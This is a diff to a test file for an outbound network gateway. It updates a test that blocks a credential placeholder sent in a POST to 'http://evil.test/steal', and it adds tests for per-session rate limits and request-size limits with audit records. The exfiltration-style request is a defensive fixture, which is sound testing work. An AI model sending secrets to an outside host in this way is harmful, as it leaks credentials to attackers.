@@ -156,8 +156,9 @@ describe("gateway: credentials", () => {
 
   it("stops a body that carries a placeholder bound to another host; the full placeholder never leaves", async () => {
     const res = await net.gateway.fetch(new Request("http://evil.test/steal", { method: "POST", body: "x".repeat(100) + "DEFT_SECRET_GITHUB" + "y".repeat(100) }), session);
-    expect(res.status).toBe(502);
+    expect(res.status).toBe(403);
     expect(await res.text()).toMatch(/placeholder of credential GITHUB/);
+    expect((await lastRecord()).rule).toBe("credentials.GITHUB");
     expect(evil.seen.some((s) => s.body.includes("DEFT_SECRET_GITHUB") || s.body.includes(TOKEN))).toBe(false);
   });
 
@@ -275,6 +276,48 @@ describe("gateway: SSRF", () => {
       expect((await open.audit.query({ sessionId: session.sessionId })).map((r) => `${r.host}:${r.decision}:${r.rule}`)).toEqual(["redirector.test:allow:networking.unrestricted", "169.254.169.254:deny:address"]);
     } finally {
       await open.close();
+    }
+  });
+});
+
+describe("gateway: limits", () => {
+  it("refuses past the per-session rate (429) and a request body over the size limit (413), audited", async () => {
+    const lim = await testGateway({
+      policy: { networking: { type: "limited", allowed_hosts: ["evil.test"] }, limits: { requests_per_minute: 3, request_body_bytes: 1000 } },
+      upstreams: [evil],
+      names: { "evil.test": ["203.0.113.2"] },
+    });
+    try {
+      const before = evil.seen.length;
+      const big = await lim.gateway.fetch(new Request("http://evil.test/up", { method: "POST", headers: { "content-length": "5000" }, body: "x".repeat(5000) }), session);
+      expect(big.status).toBe(413);
+      await big.text();
+      // Without a declared length the limit cuts the streamed body instead.
+      const streamed = new ReadableStream<Uint8Array>({
+        start(c) {
+          for (let i = 0; i < 10; i++) c.enqueue(new Uint8Array(500));
+          c.close();
+        },
+      });
+      const cut = await lim.gateway.fetch(new Request("http://evil.test/up", { method: "POST", body: streamed, duplex: "half" } as RequestInit), session);
+      expect(cut.status).toBe(413);
+      await cut.text();
+      const third = await lim.gateway.fetch(new Request("http://evil.test/ok"), session);
+      expect(third.status).toBe(200);
+      await third.text();
+      const fourth = await lim.gateway.fetch(new Request("http://evil.test/ok"), session);
+      expect(fourth.status).toBe(429);
+      await fourth.text();
+      // Another session has its own budget.
+      const other = await lim.gateway.fetch(new Request("http://evil.test/ok"), { ...session, sessionId: "sesn_other" });
+      expect(other.status).toBe(200);
+      await other.text();
+      expect(evil.seen.filter((x) => x.url === "/up" && x.body.length >= 1000).length).toBe(0);
+      expect(evil.seen.length - before).toBeLessThanOrEqual(3);
+      const rules = (await lim.audit.query({ sessionId: session.sessionId })).map((r) => r.rule);
+      expect(rules).toEqual(["limits.request_body_bytes", "limits.request_body_bytes", "networking.allowed_hosts", "limits.requests_per_minute"]);
+    } finally {
+      await lim.close();
     }
   });
 });
